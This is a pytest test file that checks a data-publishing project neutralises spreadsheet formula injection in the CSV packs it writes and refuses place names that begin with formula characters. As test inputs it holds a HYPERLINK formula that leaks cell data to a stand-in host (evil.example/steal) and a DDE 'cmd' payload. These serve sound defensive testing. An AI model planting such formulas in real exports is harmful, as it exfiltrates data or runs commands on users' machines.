"""Safe spreadsheets (issue 12, item 4): no cell of a CSV the project writes can run as a
formula in Excel or Google Sheets, and a place cannot be named by one."""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from conftest import STORY, copy_project, run
from hypothesis import given
from hypothesis import strategies as st

from generator.base.errors import InputError, ValidationFailed
from generator.delivery.packs import csv_rows, read_pack, safe_cell
from generator.inputs.outlets import Outlets
from generator.inputs.places import Places

EVIL = '=HYPERLINK("http://evil.example/steal?"&A1,"Click for the full figures")'
PACK = "isle-of-wight-county-press"  # its patch is Hampshire


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        (EVIL, "'" + EVIL),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-inf", "'-inf"),
        ("-3", "-3"),
        ("+0.5", "+0.5"),
        ("-1e3", "-1e3"),
        ("-12%", "-12%"),
        ("Hampshire Constabulary", "Hampshire Constabulary"),
        ("rate 20% = high", "rate 20% = high"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe(cell: str, safe: str) -> None:
    """Text starting =, +, -, @, tab or CR is prefixed (OWASP); plain numbers stay numbers."""
    assert safe_cell(cell) == safe


def test_csv_rows_neutralises_every_cell_and_the_header() -> None:
    table = pd.DataFrame(
        {
            "force": ["Kent Police", "Essex Police"],
            "note": [EVIL, "fine"],
            "=cmd|' /C calc'!A0": ["-4", "@x"],
        }
    )
    rows = list(csv.reader(io.StringIO(csv_rows(table, [2, 3]).decode("utf-8"))))
    assert rows == [
        ["force", "note", "'=cmd|' /C calc'!A0"],
        ["Kent Police", "'" + EVIL, "-4"],
        ["Essex Police", "fine", "'@x"],
    ]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)


@given(
    st.lists(
        st.lists(st.text(alphabet='ab ,"\n\r\t=+-@1.\u00e9', max_size=6), min_size=2, max_size=2),
        min_size=1,
        max_size=5,
    )
)
def test_csv_rows_writes_what_pandas_to_csv_writes(cells: list[list[str]]) -> None:
    """The text path (the csv module) gives pandas' bytes for any text: quotes, commas, line
    breaks and formulas included."""
    table = pd.DataFrame(cells, columns=["a,b", 'c"d'], dtype=str)
    rows = list(range(2, len(cells) + 2))
    expected = table.map(safe_cell)
    expected.columns = [safe_cell(str(c)) for c in table.columns]
    assert csv_rows(table, rows) == expected.to_csv(index=False, lineterminator="\n").encode()


def test_csv_rows_of_numbers_from_a_workbook_keeps_pandas_number_format() -> None:
    table = pd.DataFrame({"force": ["Kent Police", "=x"], "rate": [1.5, 2.0]}, dtype=object)
    assert csv_rows(table, [3, 2]) == b"force,rate\nKent Police,1.5\n'=x,2.0\n"


@pytest.fixture(scope="module")
def evil_build(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, dict[str, str]]:
    """The real project with a formula in Hampshire's ``note`` cell, built once into ``out/``
    inside it; the files of the project outside ``out/`` before the build, hashed."""
    from conftest import ROOT

    project = copy_project(ROOT, tmp_path_factory.mktemp("evil") / "project")
    figures = project / "data" / STORY / "figures.csv"
    table = pd.read_csv(figures, dtype=str, keep_default_na=False)
    table.loc[table["force"] == "Hampshire Constabulary", "note"] = EVIL
    table.to_csv(figures, index=False, lineterminator="\n")
    before = hashes(project)
    result = run(project, "build", "--story", STORY)
    assert result.exit_code == 0, result.output
    return project, project / "out" / STORY, before


def hashes(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def hampshire_note(data_csv: str) -> str:
    (row,) = [r for r in csv.DictReader(io.StringIO(data_csv)) if "Hampshire" in r["force"]]
    return row["note"]


@pytest.mark.slow
def test_a_formula_in_the_data_is_neutralised_in_the_pack(evil_build) -> None:
    _, out, _ = evil_build
    with zipfile.ZipFile(out / "packs" / f"{PACK}.zip") as archive:
        zipped_csv = archive.read(f"{PACK}/data.csv").decode("utf-8")
    assert hampshire_note(zipped_csv) == "'" + EVIL
    assert "\n=" not in zipped_csv and ",=" not in zipped_csv


@pytest.mark.slow
def test_every_pack_data_csv_has_no_cell_a_spreadsheet_would_run(evil_build) -> None:
    _, out, _ = evil_build
    for pack in (out / "packs").glob("*.zip"):
        data_csv = read_pack(pack)["data.csv"].decode("utf-8")
        for row in csv.reader(io.StringIO(data_csv)):
            for cell in row:
                assert safe_cell(cell) == cell, (pack.name, cell)


@pytest.mark.slow
def test_the_method_note_says_formula_cells_are_neutralised(evil_build) -> None:
    _, out, _ = evil_build
    method = read_pack(out / "packs" / f"{PACK}.zip")["method.md"].decode("utf-8")
    assert "starts with an apostrophe (')" in method
    assert "never run it as a formula" in method


@pytest.mark.slow
def test_the_build_wrote_nothing_outside_out(evil_build) -> None:
    project, _, before = evil_build
    after = {k: v for k, v in hashes(project).items() if not k.startswith("out/")}
    assert after == before


# --- names a spreadsheet would run are not places ------------------------------------------


@pytest.mark.parametrize("column", ["name", "short_name", "variants"])
def test_a_place_name_starting_with_a_formula_character_is_refused(
    project: Path, column: str
) -> None:
    path = project / "data/police-forces.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    row = next(i for i, line in enumerate(lines) if ",hampshire," in line)
    cells = next(csv.reader([lines[row]]))
    cells[header.index(column)] = "=Hampshire"
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="").writerow(cells)
    lines[row] = buffer.getvalue()
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises((InputError, ValidationFailed)) as caught:
        Places.load(path, shown_as="data/police-forces.csv")
    text = str(caught.value)
    assert f"data/police-forces.csv, row {row + 1}, column '{column}': '=Hampshire'" in text
    assert "spreadsheets run as a formula" in text
    assert "start the name with a letter" in text


def test_a_data_name_starting_with_a_formula_character_is_refused(project: Path) -> None:
    """'=Hampshire Constabulary' would otherwise match Hampshire once punctuation is ignored."""
    places = Places.load(project / "data/police-forces.csv")
    with pytest.raises(InputError) as caught:
        places.resolve("=Hampshire Constabulary", file="data/x/figures.csv", row=5, column="force")
    text = str(caught.value)
    assert text.startswith("data/x/figures.csv, row 5, column 'force': '=Hampshire Constabulary'")
    assert "spreadsheets run as a formula" in text


def test_a_build_with_a_formula_as_a_place_name_in_the_data_fails_clearly(project: Path) -> None:
    figures = project / "data" / STORY / "figures.csv"
    figures.write_text(
        figures.read_text(encoding="utf-8").replace("\nHampshire Constabulary,", "\n@Hampshire,")
    )
    result = run(project, "build", "--story", STORY)
    assert result.exit_code != 0
    assert f"data/{STORY}/figures.csv, row 18, column 'force': '@Hampshire'" in result.output
    assert "Traceback" not in result.output
    assert not (project / "out" / STORY).exists()


def test_an_outlet_name_starting_with_a_formula_character_is_refused(project: Path) -> None:
    path = project / "data/outlets.yaml"
    path.write_text(path.read_text().replace("name: Yorkshire Post", "name: '+Yorkshire Post'"))
    places = Places.load(project / "data/police-forces.csv")
    with pytest.raises(InputError) as caught:
        Outlets.load(path, places, shown_as="data/outlets.yaml")
    assert "column 'name': '+Yorkshire Post'" in str(caught.value)
    assert "spreadsheets run as a formula" in str(caught.value)
